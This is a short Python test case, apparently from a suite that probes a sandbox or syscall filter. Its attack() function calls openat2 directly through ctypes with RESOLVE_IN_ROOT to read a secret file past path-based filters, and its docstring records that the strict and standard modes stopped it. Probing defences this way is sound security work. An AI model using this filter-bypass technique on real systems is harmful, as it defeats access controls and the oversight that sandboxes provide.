"""Reads a private file by openat2, of which no filter sees how a file is opened, below the root that it names.

Seen: an answer: it knows the secret.
Stopped at: strict, standard.
Verdict: wrong, raised.
"""
import ctypes
import os
import struct


def attack():
    how = struct.pack("QQQ", os.O_RDONLY, 0, 0x10)  # RESOLVE_IN_ROOT
    root = os.open("/", os.O_PATH)
    found = ctypes.CDLL(None).syscall(437, root, target.secret.encode(), how, len(how))
    return found >= 0 and target.knows(os.read(found, 100))
